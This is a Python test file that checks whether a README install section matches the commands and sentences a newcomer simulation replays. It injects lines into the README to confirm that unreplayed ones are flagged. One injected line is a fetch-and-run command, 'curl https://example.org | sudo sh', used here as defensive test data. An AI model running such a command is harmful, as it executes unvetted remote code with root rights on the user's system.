"""Each part of README's install section is replayed; tests/system/test_readme.py does it."""

from __future__ import annotations

from system.newcomer import COMMANDS, README, WORDS, parts, unknown


def test_all_that_the_install_section_says_is_replayed_and_nothing_else() -> None:
    section = parts(README.read_text("utf-8"))
    assert unknown(section) == []
    assert {part.text for part in section if part.is_typed} == set(COMMANDS)
    assert {part.text for part in section if not part.is_typed} == set(WORDS)


def test_what_nobody_replays_is_found() -> None:
    text = README.read_text("utf-8")
    more = ("postroad setup --name anna", "curl https://example.org | sudo sh")
    for line in more:
        changed = text.replace("postroad setup\n```", f"postroad setup\n{line}\n```", 1)
        assert unknown(parts(changed)) == [line]
    claimed = text.replace("forgets it.", "forgets it, and all your mail.", 1)
    assert unknown(parts(claimed)) == ["forgets it, and all your mail."]
